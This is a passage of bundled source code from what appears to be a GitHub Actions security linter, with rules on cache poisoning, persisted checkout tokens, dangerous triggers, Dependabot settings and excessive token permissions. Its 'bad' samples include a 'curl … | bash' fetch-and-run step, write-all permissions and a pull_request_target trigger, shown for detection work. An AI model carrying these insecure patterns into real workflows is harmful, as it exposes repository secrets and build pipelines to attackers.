    if (!written || scalar.style === 'single' || scalar.style === 'double' || !names.every((name) => /^[\w./-]+$/.test(name)))
        return undefined;
    return (0,rule/* unsafeFix */.ed)('Look in a list', { span: placeOf(written.span), text: `fromJSON('${JSON.stringify(names)}')` });
}

// EXTERNAL MODULE: ./lib/documents/expression-fold.js
var expression_fold = __webpack_require__(6028);
;// CONCATENATED MODULE: ./lib/documents/version-comment.js
/** The major version that a reference names: by its tag, or by the comment behind a commit (`# v4.2.2`, `# tag=v4.2.2`). Null where neither says it. */
function majorVersion({ ref, node, document }) {
    const tag = /^v?(\d+)(?:\.|$)/.exec(ref ?? '');
    if (tag && !/^[0-9a-f]{40}$/i.test(ref ?? ''))
        return Number(tag[1]);
    const { end } = document.text.line(document.text.position(node.span.end).line);
    const rest = document.text.value.slice(node.span.end, end);
    const comment = rest.includes('#') ? /^\s+#\s*(?:tag=)?v?(\d+)(?:\.\d+)*(?:\s|$)/.exec(rest) : null;
    return comment ? Number(comment[1]) : null;
}

;// CONCATENATED MODULE: ./lib/documents/cache-actions.js



const always = [];
const cache_actions_on = (...inputs) => inputs.map((input) => ({ input, byDefault: false }));
const unless = (input) => [{ input, off: true, byDefault: true }];
const byDefault = (input) => [{ input, byDefault: true }];
/** From version 10 setup-uv keeps no cache in a release by itself (astral-sh/setup-uv, README, "Enable caching"). */
const uvWithoutCache = 10;
/** Actions that restore a cache, by each action's documentation. */
const caches = new Map([
    ['actions/cache', unless('lookup-only')],
    ['actions/cache/restore', unless('lookup-only')],
    ['actions/setup-dotnet', cache_actions_on('cache')],
    ['actions/setup-go', byDefault('cache')],
    ['actions/setup-java', cache_actions_on('cache')],
    ['actions/setup-node', cache_actions_on('cache')],
    ['actions/setup-python', cache_actions_on('cache')],
    ['actions-rust-lang/setup-rust-toolchain', byDefault('cache')],
    ['astral-sh/setup-uv', byDefault('enable-cache')],
    ['docker/setup-buildx-action', byDefault('cache-binary')],
    ['golangci/golangci-lint-action', unless('skip-cache')],
    ['graalvm/setup-graalvm', cache_actions_on('cache')],
    ['gradle/actions/setup-gradle', unless('cache-disabled')],
    ['gradle/gradle-build-action', unless('cache-disabled')],
    ['hendrikmuhs/ccache-action', always],
    ['mlugg/setup-zig', byDefault('use-cache')],
    ['moonrepo/setup-rust', byDefault('cache')],
    ['mozilla-actions/sccache-action', always],
    ['nix-community/cache-nix-action', always],
    ['oven-sh/setup-bun', unless('no-cache')],
    ['ramsey/composer-install', unless('ignore-cache')],
    ['subosito/flutter-action', cache_actions_on('cache')],
    ['coursier/cache-action', always],
    ['julia-actions/cache', always],
    ['buildjet/cache', unless('lookup-only')],
    ['pdm-project/setup-pdm', cache_actions_on('cache')],
    ['pnpm/action-setup', cache_actions_on('cache')],
    ['pyo3/maturin-action', cache_actions_on('sccache')],
    ['ruby/setup-ruby', cache_actions_on('bundler-cache')],
    ['swatinem/rust-cache', unless('lookup-only')],
    ['determinatesystems/magic-nix-cache-action', always],
]);
/** Whether a step restores a cache in a run of which this is known. False also where that cannot be told. */
function restoresCache(step, known) {
    const { reference } = step;
    const switches = caches.get(reference?.name ?? '');
    if (!reference || !switches)
        return false;
    // Without a version the action takes the buildx that the runner has, and there is nothing to cache.
    if (reference.name === 'docker/setup-buildx-action' && step.at('with', 'version') === undefined)
        return false;
    const byItself = reference.name !== 'astral-sh/setup-uv' || (majorVersion(reference) ?? 0) < uvWithoutCache;
    return (switches.length === 0 ||
        switches.some(({ input, off, byDefault: unset }) => {
            const node = step.at('with', input);
            if (node === undefined || node.string === 'auto')
                return unset && byItself;
            const set = isOn(node, known);
            return set !== undefined && set !== Boolean(off);
        }));
}
/** Null, `''` and words for no are off; anything else switches on, or names what is cached. */
function isOn(node, known) {
    const [fence] = (0,expression_find/* findExpressions */.zV)(node.string ?? '');
    if (fence === undefined)
        return node.value !== null && !/^(?:false|no|off|0|)$/i.test(node.string ?? '');
    const value = fence.expression ? (0,expression_fold/* fold */.AU)(fence.expression, known) : undefined;
    return value === undefined ? undefined : !/^(?:false|0|)$/.test(String(value ?? ''));
}

;// CONCATENATED MODULE: ./lib/documents/release-runs.js

const run = (event, kind, name) => new Map([
    ['github.event_name', event],
    ['github.ref_type', kind],
    ['github.ref', `refs/${kind === 'tag' ? 'tags' : 'heads'}/${name}`],
    ['github.ref_name', name],
]);
/**
 * What is known of `github` in each kind of run that may publish something: releases, pushed tags, pushes to a release branch; and every push to a
 * branch or call of the workflow where the job publishes by itself. Empty where the job publishes nothing.
 */
function releaseRuns(job) {
    const runs = [...taggedRuns(job.workflow)];
    const publishes = job.steps.some((step) => publications(step).length > 0);
    if (publishes)
        return runs.length > 0 ? runs : otherRuns(job.workflow);
    return onlyReleases(job.workflow) || saysRelease(`${job.id} ${job.at('name')?.string ?? ''}`) ? runs : [];
}
const saysRelease = (name) => name.split(/[\W_]+/).some((word) => ['publish', 'release', 'deploy'].includes(word.toLowerCase()));
function* taggedRuns({ triggers }) {
    const push = triggers.get('push')?.node;
    const branch = names(push?.at('branches')).find((name) => name.toLowerCase().includes('release'));
    if (triggers.has('release'))
        yield run('release', 'tag', 'v1.0.0');
    if (push?.at('tags') !== undefined)
        yield run('push', 'tag', 'v1.0.0');
    if (branch !== undefined)
        yield run('push', 'branch', branch.replaceAll('*', '1'));
}
/** A pull request publishes for nobody. */
const otherRuns = ({ triggers }) => ['push', 'workflow_dispatch', 'schedule', 'workflow_run', 'workflow_call']
    .filter((event) => triggers.has(event))
    .map((event) => run(event, 'branch', 'main'));
/** Nothing but releases and tags starts it, save a person. */
function onlyReleases({ triggers }) {
    const events = [...triggers.keys()].filter((event) => event !== 'workflow_dispatch');
    const push = triggers.get('push')?.node;
    const branches = names(push?.at('branches'));
    const pushes = !events.includes('push') ||
        ((push?.at('tags') !== undefined || branches.length > 0) && branches.every((name) => name.toLowerCase().includes('release')));
    return events.length > 0 && events.every((event) => event === 'release' || event === 'push') && pushes;
}
const names = (node) => node?.kind === 'sequence' ? node.items.flatMap(({ value }) => value.string ?? []) : node?.string === undefined ? [] : [node.string];

;// CONCATENATED MODULE: ./lib/rules/workflow/cache-poisoning.js




/* harmony default export */ const cache_poisoning = ((0,rule/* defineRule */.Km)({
    id: 'workflow/cache-poisoning',
    severity: 'high',
    threat: 'access',
    summary: 'What is published is built with a cache',
    why: 'Every job on the default branch may write the cache. A bad dependency or a flaw in one of them puts its files into it, and from there into what you publish.',
    instead: 'Build what is published without a cache: switch it off in the jobs that publish.',
    references: [
        actions('reference/workflows-and-actions/dependency-caching', 'dependency caching'),
        {
            title: 'Adnan Khan: cache poisoning in GitHub Actions',
            url: 'https://adnanthekhan.com/2024/05/06/the-monsters-in-your-build-cache-github-actions-cache-poisoning/',
        },
        cwe(349),
    ],
    peers: ['zizmor:cache-poisoning'],
    bad: `
on: release
permissions: {}
jobs:
  publish:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/setup-go@d35c59abb061a4a6fb18e82ac0862c26744d6ab5 # v5.5.0
        with:
          go-version: stable
      - run: gh release upload v1 dist/shop
`,
    good: `
on: release
permissions: {}
jobs:
  publish:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/setup-go@d35c59abb061a4a6fb18e82ac0862c26744d6ab5 # v5.5.0
        with:
          go-version: stable
          cache: false
      - run: gh release upload v1 dist/shop
`,
    on: 'job',
    *check(job) {
        const runs = releaseRuns(job);
        for (const step of job.steps) {
            if (!step.uses || !runs.some((run) => restoresCache(step, run)))
                continue;
            const name = step.reference?.name ?? '';
            yield { at: step.uses, identity: name, message: `"${name}" restores a cache, in a job that publishes` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/documents/workflow-permissions.js
/** The scopes that `permissions` grants one by one; `write-all` and `read-all` are none of them. */
function grantedScopes(permissions) {
    if (permissions?.kind !== 'map')
        return [];
    return permissions.entries.flatMap((entry) => {
        const access = entry.value.string;
        return access === 'read' || access === 'write' || access === 'none' ? [{ ...entry, access }] : [];
    });
}
/** What the token of a job may do with a scope: the job's own `permissions` replace the workflow's. Null where neither says it, and the repository's setting holds. */
function accessOf(job, scope) {
    const permissions = job.at('permissions') ?? job.workflow.at('permissions');
    if (permissions === undefined)
        return null;
    if (permissions.value === 'write-all')
        return 'write';
    if (permissions.value === 'read-all')
        return 'read';
    return grantedScopes(permissions).find(({ key }) => key.string === scope)?.access ?? 'none';
}

;// CONCATENATED MODULE: ./lib/rules/workflow/credential-persistence.js






/* harmony default export */ const credential_persistence = ((0,rule/* defineRule */.Km)({
    id: 'workflow/credential-persistence',
    severity: 'medium',
    threat: 'secret',
    strictly: 'every checkout that keeps the token; else only where something could carry it away.',
    summary: 'The token of the job is left on disk after the checkout',
    why: 'Every later step, and everything that a build runs, can read it there; an artifact that takes the whole folder publishes it.',
    instead: 'Write `persist-credentials: false`; where a later step pushes, give the token to that step.',
    references: [
        { title: 'actions/checkout: persist-credentials', url: 'https://github.com/actions/checkout#usage' },
        { title: 'Unit 42: artifacts leak tokens', url: 'https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/' },
        cwe(522),
    ],
    peers: ['zizmor:artipacked', 'kics:missing_persist_credentials_false'],
    bad: `
on: push
permissions:
  contents: read
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v4
      - uses: actions/upload-artifact@v4
        with:
          path: .
`,
    good: `
on: push
permissions:
  contents: read
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v4
        with:
          persist-credentials: false
      - uses: actions/upload-artifact@v4
        with:
          path: .
`,
    on: 'step',
    guard: ({ at }) => at('with', 'persist-credentials'),
    *check(step, { strict }) {
        const { reference, uses, at, job } = step;
        // An explicit `true` says that it is wanted.
        if (reference?.name !== 'actions/checkout' || !uses || at('with', 'persist-credentials') !== undefined)
            return;
        const later = job?.steps.slice(job.steps.findIndex((each) => each.node === step.node) + 1) ?? [];
        if (later.some(usesGit))
            return;
        const upload = later.find(uploadsEverything);
        const severity = severityOf(step, upload !== undefined);
        // Nearly every checkout: told to those who want to hear of it.
        if (severity === 'low' && !strict)
            return;
        const message = upload ? 'the token stays in the folder that a later step uploads' : 'the token stays on disk for all later steps';
        yield {
            at: uses,
            ...(job && { subject: job.subject }),
            field: 'persist-credentials',
            identity: '',
            severity: severityOf(step, upload !== undefined),
            message,
            fix: credential_persistence_fixFor(step, later),
        };
    },
}));
/** From version 6 the token lies outside the folder of the repository, and no artifact takes it along. */
function severityOf({ reference, job }, uploaded) {
    const outside = reference !== null && (majorVersion(reference) ?? 0) >= 6;
    const writes = job !== null && accessOf(job, 'contents') === 'write';
    return (uploaded && !outside) || writes ? 'medium' : 'low';
}
/** Actions that push with the token that the checkout leaves. */
const pushing = new Set([
    'ad-m/github-push-action',
    'changesets/action',
    'endbug/add-and-commit',
    'googleapis/release-please-action',
    'helm/chart-releaser-action',
    'jamesives/github-pages-deploy-action',
    'peaceiris/actions-gh-pages',
    'peter-evans/create-pull-request',
    'stefanzweifel/git-auto-commit-action',
]);
const usesGit = (step) => pushing.has(step.reference?.name ?? '') ||
    (0,workflow_shell/* stepInvocations */.Wz)(step).some(({ name, args }) => name === 'git' && args.some(({ value }) => /^(?:push|fetch|pull|submodule|ls-remote|clone)$/.test(value)));
function uploadsEverything({ reference, at }) {
    if (reference?.name !== 'actions/upload-artifact')
        return false;
    const paths = (at('with', 'path')?.string ?? '').split('\n');
    return paths.some((path) => /^(?:\.|\.\/|\*\*?(?:\/\*)?|\$\{\{\s*github\.workspace\s*\}\}\/?)$/.test(path.trim()));
}
function credential_persistence_fixFor({ node, document, at, job }, later) {
    const edit = setAt(document.text, node, ['with', 'persist-credentials'], false, 'uses');
    // What other actions and scripts do with git is not seen from here.
    const seen = later.every((step) => step.reference === null || step.reference.owner === 'actions');
    // A token of its own, or one that may write, is there for something.
    const meant = at('with', 'token') ?? at('with', 'ssh-key') ?? (job !== null && accessOf(job, 'contents') === 'write');
    return (seen && !meant ? rule/* safeFix */.bS : rule/* unsafeFix */.ed)('Leave no token behind', edit);
}

;// CONCATENATED MODULE: ./lib/rules/workflow/dangerous-trigger.js


/* harmony default export */ const dangerous_trigger = ((0,rule/* defineRule */.Km)({
    id: 'workflow/dangerous-trigger',
    severity: 'medium',
    threat: 'access',
    summary: 'Pull requests of strangers run this workflow with secrets',
    why: 'With these events a pull request from a fork starts the workflow with the secrets of the repository, a token that can write, and the cache of the default branch.',
    instead: 'Use `pull_request`, and leave what needs secrets to a workflow that nobody outside can start.',
    references: [actions('reference/security/securely-using-pull_request_target', 'securely using pull_request_target'), cwe(829)],
    peers: ['zizmor:dangerous-triggers'],
    bad: `
on: pull_request_target
permissions: {}
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: make test
`,
    good: `
on: pull_request
permissions: {}
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: make test
`,
    on: 'workflow',
    *check(workflow) {
        if (onlyCallsApi(workflow))
            return;
        for (const event of ['pull_request_target', 'workflow_run']) {
            const at = workflow.triggers.get(event)?.name;
            if (at)
                yield { at, message: `the workflow runs on "${event}"`, identity: event };
        }
    },
}));
/** Actions that only call the API about the pull request, and neither read nor run anything of it. */
const dangerous_trigger_harmless = new Set([
    'actions/first-interaction',
    'actions/labeler',
    'actions/stale',
    'amannn/action-semantic-pull-request',
    'kentaro-m/auto-assign-action',
    'timonvs/pr-labeler-action',
    'toshimaru/auto-author-assign',
]);
const onlyCallsApi = ({ jobs }) => jobs.length > 0 && jobs.every(({ steps }) => steps.length > 0 && steps.every(({ reference }) => dangerous_trigger_harmless.has(reference?.name ?? '')));

;// CONCATENATED MODULE: ./lib/rules/workflow/dependabot-cooldown-missing.js



/** Most packages that were taken over have been found out and withdrawn within a week. */
const enoughDays = 7;
/* harmony default export */ const dependabot_cooldown_missing = ((0,rule/* defineRule */.Km)({
    id: 'workflow/dependabot-cooldown-missing',
    severity: 'low',
    strict: true,
    threat: 'cve',
    summary: 'Dependabot proposes versions on the day they appear',
    why: 'A package that was taken over is mostly found out within days. Who updates at once is among its victims.',
    instead: `Write \`cooldown: {default-days: ${enoughDays}}\`. Security updates do not wait for it.`,
    references: [
        {
            title: 'GitHub: Dependabot options, cooldown',
            url: 'https://docs.github.com/en/code-security/dependabot/working-with-dependabot/dependabot-options-reference#cooldown-',
        },
        attack('T1195.001'),
    ],
    peers: ['zizmor:dependabot-cooldown'],
    bad: {
        '.github/dependabot.yml': 'version: 2\nupdates:\n  - package-ecosystem: npm\n    directory: /\n    schedule:\n      interval: daily\n',
    },
    good: {
        '.github/dependabot.yml': 'version: 2\nupdates:\n  - package-ecosystem: npm\n    directory: /\n    schedule:\n      interval: daily\n    cooldown:\n      default-days: 7\n',
    },
    on: 'dependabotUpdate',
    guard: ({ node }) => node.entry('cooldown'),
    *check(update) {
        const cooldown = update.at('cooldown');
        const days = cooldown?.at('default-days');
        if (typeof days?.value === 'number' && days.value >= enoughDays)
            return;
        const fix = (0,rule/* safeFix */.bS)('Wait a week', setAt(update.document.text, update.node, ['cooldown', 'default-days'], enoughDays));
        const told = days ? `waits ${days.string} days` : 'does not wait';
        yield {
            at: days ?? cooldown ?? update,
            field: 'cooldown',
            identity: '',
            message: `Dependabot ${told} before it proposes a new version for ${update.ecosystem}`,
            fix,
        };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/workflow/dependabot-external-code-execution.js



/* harmony default export */ const dependabot_external_code_execution = ((0,rule/* defineRule */.Km)({
    id: 'workflow/dependabot-external-code-execution',
    severity: 'high',
    threat: 'access',
    summary: 'Dependabot may run the code of dependencies',
    why: 'While it looks for updates Dependabot then runs code of packages that nobody has seen yet, beside the credentials of your private registries.',
    instead: 'Remove the line, or write `deny`.',
    references: [
        {
            title: 'GitHub: Dependabot options, insecure-external-code-execution',
            url: 'https://docs.github.com/en/code-security/dependabot/working-with-dependabot/dependabot-options-reference#insecure-external-code-execution--',
        },
        cwe(829),
    ],
    peers: ['zizmor:dependabot-execution'],
    bad: {
        '.github/dependabot.yml': 'version: 2\nupdates:\n  - package-ecosystem: bundler\n    directory: /\n    schedule:\n      interval: weekly\n    insecure-external-code-execution: allow\n',
    },
    good: {
        '.github/dependabot.yml': 'version: 2\nupdates:\n  - package-ecosystem: bundler\n    directory: /\n    schedule:\n      interval: weekly\n',
    },
    on: 'dependabotUpdate',
    *check(update) {
        const value = update.at('insecure-external-code-execution');
        if (value?.kind !== 'scalar' || value.string !== 'allow')
            return;
        yield {
            at: value,
            message: `updates of ${update.ecosystem} may run code of their packages ("allow")`,
            fix: (0,rule/* safeFix */.bS)('Deny it', replaceScalar(value, 'deny')),
        };
    },
}));

;// CONCATENATED MODULE: ./lib/documents/action-scripts.js

/** Inputs of well-known actions that are run as code, by each action's documentation. */
const inputs = new Map([
    ['actions/github-script', ['script']],
    ['addnab/docker-run-action', ['run']],
    ['amadevus/pwsh-script', ['script']],
    ['appleboy/ssh-action', ['script']],
    ['azure/cli', ['inlinescript']],
    ['azure/powershell', ['inlinescript']],
    ['coactions/setup-xvfb', ['run']],
    ['cypress-io/github-action', ['command', 'build', 'start', 'install-command', 'parallel-command']],
    ['devcontainers/ci', ['runcmd']],
    ['fifsky/ssh-action', ['command']],
    ['gabrielbb/xvfb-action', ['run']],
    ['garygrossgarten/github-action-ssh', ['command']],
    ['jannekem/run-python-script-action', ['script']],
    ['mikefarah/yq', ['cmd']],
    ['nick-fields/retry', ['command', 'on_retry_command', 'new_command_on_retry']],
    ['nick-invision/retry', ['command', 'on_retry_command', 'new_command_on_retry']],
    ['pguyot/arm-runner-action', ['commands']],
    ['reactivecircus/android-emulator-runner', ['script', 'pre-emulator-launch-script']],
    ['satackey/action-js-inline', ['script']],
    ['uraimo/run-on-arch-action', ['run', 'install', 'setup']],
    ['vmactions/freebsd-vm', ['run', 'prepare']],
    ['vmactions/netbsd-vm', ['run', 'prepare']],
    ['vmactions/openbsd-vm', ['run', 'prepare']],
    ['vmactions/solaris-vm', ['run', 'prepare']],
    ['wandalen/wretry.action', ['command', 'pre_retry_command']],
]);
/** The scripts of a step: its `run`, and inputs that its action runs. */
function scriptsOf({ run, reference, at }) {
    const code = [...(0,yaml_values/* entriesOf */.Mc)(at('with'))].filter(({ key }) => runsInput(reference?.name ?? '', key.string));
    return [run, ...code.map(({ value }) => value)].filter((node) => node?.kind === 'scalar');
}
/** Inputs know no case. */
const runsInput = (action, input) => inputs.get(action)?.includes(input.toLowerCase()) ?? false;

;// CONCATENATED MODULE: ./lib/rules/workflow/deprecated-workflow-command.js





/** Commands that are read from the log, and the files that stand for them. */
const files = new Map([
    ['set-output', 'GITHUB_OUTPUT'],
    ['save-state', 'GITHUB_STATE'],
    ['set-env', 'GITHUB_ENV'],
    ['add-path', 'GITHUB_PATH'],
]);
/* harmony default export */ const deprecated_workflow_command = ((0,rule/* defineRule */.Km)({
    id: 'workflow/deprecated-workflow-command',
    severity: 'medium',
    threat: 'access',
    summary: 'A script sets values by printing a command',
    why: 'The runner takes such commands out of everything that is printed, so that text which a program only shows can set an output or a variable too. GitHub has deprecated them; `set-env` and `add-path` no longer work.',
    instead: 'Write to the file: `echo "name=value" >> "$GITHUB_OUTPUT"`.',
    references: [actions('reference/workflows-and-actions/workflow-commands', 'workflow commands'), cve('CVE-2020-15228'), cwe(77)],
    peers: ['actionlint:deprecated-commands'],
    bad: `
on: push
permissions: {}
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: echo "::set-output name=version::$(cat VERSION)"
`,
    good: `
on: push
permissions: {}
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: echo "version=$(cat VERSION)" >> "$GITHUB_OUTPUT"
`,
    on: 'step',
    *check(step) {
        for (const script of scriptsOf(step)) {
            if (!script.string.includes('::'))
                continue;
            for (const match of script.string.matchAll(/^(?![ \t]*(?:#|\/\/)).*?::(set-output|save-state|set-env|add-path)(?=[ :]).*$/gm)) {
                const [line, command = ''] = match;
                const start = match.index + line.indexOf(`::${command}`);
                const span = (0,scalar_offsets/* spanWithin */.Y)(script, step.document.text, { start, end: start + command.length + 2 });
                yield { at: { span }, message: `"::${command}" is read from the log`, fix: deprecated_workflow_command_fixFor(step, span.start, command) };
            }
        }
    },
}));
/** `echo "::set-output name=x::$X"` alone becomes `echo "x=$X" >> "$GITHUB_OUTPUT"`. */
function deprecated_workflow_command_fixFor(step, start, command) {
    const echo = (0,workflow_shell/* stepCommands */.Bs)(step).find(({ span }) => span.start <= start && start < span.end);
    if (!echo || !isPlainEcho(echo))
        return undefined;
    const [, word] = echo.words;
    const written = step.document.text.slice({ start, end: word?.span.end ?? start });
    const prefix = command === 'add-path' ? /^::add-path::/.exec(written) : /^::[a-z-]+ name=([\w-]+)::/.exec(written);
    if (!prefix)
        return undefined;
    const end = { start: echo.span.end, end: echo.span.end };
    return (0,rule/* safeFix */.bS)(`Write to ${files.get(command) ?? 'the file'}`, { span: { start, end: start + prefix[0].length }, text: prefix[1] === undefined ? '' : `${prefix[1]}=` }, { span: end, text: ` >> "$${files.get(command) ?? ''}"` });
}
const isPlainEcho = ({ words, redirections }) => words.length === 2 && words[0]?.value === 'echo' && redirections.length === 0 && words[1]?.value.startsWith('::') === true;

;// CONCATENATED MODULE: ./lib/documents/step-downloads.js




const step_downloads_known = new WeakMap();
/** What the step runs that it, or a step before it in the same job or action, has downloaded. */
function downloadRuns(step) {
    const steps = (step.job ?? step.action)?.steps ?? [step];
    let runs = step_downloads_known.get(steps);
    if (runs === undefined) {
        const tracker = new DownloadTracker();
        runs = new Map(steps.map((each) => [each, [...tracker.read((0,workflow_shell/* stepCommands */.Bs)(each)), ...step_downloads_inPowershell(each)]]));
        step_downloads_known.set(steps, runs);
    }
    return runs.get(step) ?? [];
}
function step_downloads_inPowershell(step) {
    const { run, document } = step;
    return run && (0,workflow_shell/* shellLanguage */.dZ)(step) === 'powershell' ? powershellDownloads(run.string, (part) => (0,scalar_offsets/* spanWithin */.Y)(run, document.text, part)) : [];
}

;// CONCATENATED MODULE: ./lib/rules/workflow/download-then-run.js




/* harmony default export */ const workflow_download_then_run = ((0,rule/* defineRule */.Km)({
    id: 'workflow/download-then-run',
    severity: 'medium',
    threat: 'immutability',
    summary: 'A step runs what it downloads without a check',
    why: 'Whoever holds that server, or the address of the file, runs code with the secrets and the token of the job. Codecov was used so in 2021.',
    instead: 'Use an action that is pinned by commit, or compare the file with a checksum that is written here before it runs.',
    references: [
        actions('reference/security/secure-use', 'secure use'),
        { title: 'Codecov: Bash Uploader security update', url: 'https://about.codecov.io/security-update/' },
        cwe(494),
        attack('T1195.002'),
    ],
    peers: ['scorecard:Pinned-Dependencies', 'semgrep:curl-eval', 'poutine:unverified_script_exec'],
    bad: `
on: push
permissions: {}
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: curl -fsSL https://example.com/install.sh | bash
`,
    good: `
on: push
permissions: {}
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          curl -fsSLO https://example.com/install.sh
          echo "0f5b6b5c0d9d8a2e4a1f3d7b9c1e2f3a4b5c6d7e8f90a1b2c3d4e5f60718293a  install.sh" | sha256sum -c
          bash install.sh
`,
    on: 'step',
    *check(step) {
        for (const { span, download, program, file } of downloadRuns(step)) {
            const identity = withoutVersions(step.document.text.slice(download));
            if (file === null)
                yield { at: { span }, identity, message: `"${program}" runs what is downloaded, without a check` };
            else
                yield {
                    at: { span },
                    identity,
                    message: `"${file}" is downloaded and run without a check`,
                    related: [{ at: { span: download }, message: 'downloaded here' }],
                };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/documents/token-use.js
/** Actions that do nothing with the token but read. */
const readers = /^actions\/(?:setup-[\w-]+|cache(?:\/\w+)?|upload-artifact|download-artifact|checkout)$|^docker\/setup-[\w-]+$/;
const token = /\bgithub\s*(?:\.\s*token|\[\s*'token'\s*\])|\bsecrets\s*(?:\.|\[\s*')\s*github_token\b|\btojson\s*\(\s*(?:github|secrets)\s*\)/i;
/**
 * Whether a step of the job may use a scope of the token. A script has the token only if an expression gives it, or if a checkout has left it to git,
 * which reads and writes contents; an action can take it by itself. The token of OpenID Connect is in the environment of every step.
 */
function mayUse({ steps, node, document, workflow }, scope) {
    if (scope === 'id-token' || steps.length === 0)
        return true;
    const given = [node, workflow.at('env')].some((each) => each !== undefined && token.test(document.text.slice(each.span)));
    return given || steps.some((step) => takesToken(step) || (scope === 'contents' && leavesToken(step)));
}
const takesToken = ({ reference, uses }) => uses !== null && !readers.test(reference?.name ?? '');
const leavesToken = ({ reference, at }) => reference?.name === 'actions/checkout' && at('with', 'persist-credentials')?.string !== 'false';

;// CONCATENATED MODULE: ./lib/rules/workflow/excessive-permissions.js




/* harmony default export */ const excessive_permissions = ((0,rule/* defineRule */.Km)({
    id: 'workflow/excessive-permissions',
    severity: 'high',
    threat: 'access',
    strictly: '`read-all`, a scope that writes given to a workflow of one job, and one given to a job in which no step has the token, as low.',
    summary: 'The token of the workflow may write more than a job needs',
    why: 'Every step of every job, and every action in them, can use the token: one bad dependency is enough to push code, publish packages or approve pull requests.',
    instead: 'Grant `contents: read` or nothing to the workflow, and each scope that writes to the one job that needs it.',
    references: [
        actions('reference/workflows-and-actions/workflow-syntax#permissions', 'permissions'),
        actions('reference/security/secure-use#restricting-permissions-for-tokens', 'restricting permissions for tokens'),
        cwe(250),
    ],
    peers: [
        'zizmor:excessive-permissions',
        'scorecard:Token-Permissions',
        'checkov:CKV2_GHA_1',
        'kics:workflow_with_overly_permissive_permissions',
    ],
    bad: `
on: push
permissions: write-all
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: make test
  release:
    runs-on: ubuntu-24.04
    steps:
      - env: {GH_TOKEN: '\${{ github.token }}'}
        run: gh release create v1
`,
    good: `
on: push
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: make test
  release:
    runs-on: ubuntu-24.04
    permissions:
      contents: write
    steps:
      - env: {GH_TOKEN: '\${{ github.token }}'}
        run: gh release create v1
`,
    on: 'workflow',
    *check(workflow, { strict }) {
        const permissions = workflow.at('permissions');
        yield* allScopes(permissions, strict);
        for (const job of workflow.jobs) {
            const own = job.at('permissions');
            for (const report of [...allScopes(own, strict), ...(strict ? unusedScopes(job) : [])])
                yield { ...report, subject: job.subject };
        }
        const shared = jobsWithout(workflow);
        for (const { key, value, access } of grantedScopes(permissions)) {
            // With a single job the scope is granted where it is needed, only not beside it.
            if (access !== 'write' || shared === 0 || (shared === 1 && !strict))
                continue;
            const message = shared > 1 ? `${shared === 2 ? 'both' : `all ${shared}`} jobs may write "${key.string}"` : `the workflow may write "${key.string}"`;
            yield { at: value, field: key.string, severity: excessive_permissions_severityOf(key.string, shared), message };
        }
    },
}));
function* allScopes(permissions, strict) {
    if (permissions?.value === 'write-all')
        yield { at: permissions, message: 'the token may write everything ("write-all")' };
    if (permissions?.value === 'read-all' && strict)
        yield { at: permissions, severity: 'low', message: 'the token may read everything ("read-all")' };
}
/** Scopes that no step of the job can use, as none is given the token. */
function* unusedScopes(job) {
    for (const { key, value, access } of grantedScopes(job.at('permissions'))) {
        if (access !== 'write' || mayUse(job, key.string))
            continue;
        yield {
            at: value,
            field: key.string,
            severity: 'low',
            message: `job "${job.id}" may write "${key.string}", and no step of it has the token`,
        };
    }
}
/** Jobs that take the permissions of the workflow. */
const jobsWithout = ({ jobs }) => jobs.filter((job) => job.at('permissions') === undefined).length;
/** Scopes by which code, packages or identities can be forged. */
const grave = new Set([
    'contents',
    'packages',
    'actions',
    'id-token',
    'deployments',
    'attestations',
    'repository-projects',
    'administration',
]);
const excessive_permissions_severityOf = (scope, jobs) => jobs === 1 ? 'low' : grave.has(scope) ? 'high' : 'medium';

;// CONCATENATED MODULE: ./lib/rules/workflow/github-app-token-overscoped.js


/* harmony default export */ const github_app_token_overscoped = ((0,rule/* defineRule */.Km)({
    id: 'workflow/github-app-token-overscoped',
    severity: 'medium',
    threat: 'access',
    summary: 'The token of a GitHub App can do more than this job',
    why: 'Without limits the token may do all that the app may, in every repository where it is installed; without revocation it does so for an hour after the job.',
    instead: 'Give `permission-…` inputs, name `repositories` where an `owner` is given, and let the action revoke the token.',
    references: [
        { title: 'actions/create-github-app-token: inputs', url: 'https://github.com/actions/create-github-app-token#inputs' },
        cwe(272),
    ],
    peers: ['zizmor:github-app'],
    bad: `
on: push
permissions: {}
jobs:
  sync:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/create-github-app-token@d72941d797fd3113feb6b93fd0dec494b13a2547 # v1.12.0
        with:
          app-id: 1
          private-key: \${{ secrets.APP_KEY }}
          owner: example
`,
    good: `
on: push
permissions: {}
jobs:
  sync:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/create-github-app-token@d72941d797fd3113feb6b93fd0dec494b13a2547 # v1.12.0
        with:
          app-id: 1
          private-key: \${{ secrets.APP_KEY }}
          owner: example
          repositories: shop
          permission-contents: read
`,
    on: 'step',
    *check({ reference, uses, at }) {
        if (reference?.name !== 'actions/create-github-app-token' || !uses)
            return;
        const inputs = at('with');
        const names = inputs?.kind === 'map' ? inputs.entries.map(({ key }) => key.string.toLowerCase()) : [];
        const permissions = names.filter((name) => name.startsWith('permission-'));
        const kept = inputs?.at('skip-token-revoke');
        if (kept?.string !== undefined && kept.string !== 'false')
            yield { at: kept, field: 'skip-token-revoke', message: `the token is not revoked ("${kept.string}")` };
        if (permissions.length === 0)
            yield { at: uses, field: 'permissions', identity: '', message: 'the token has every permission of the app' };
        const owner = inputs?.at('owner');
        if (owner && inputs?.at('repositories') === undefined && (permissions.length === 0 || !permissions.every(isOrganizationWide)))
            yield { at: owner, field: 'repositories', identity: '', message: `the token is for every repository of "${owner.string}"` };
    },
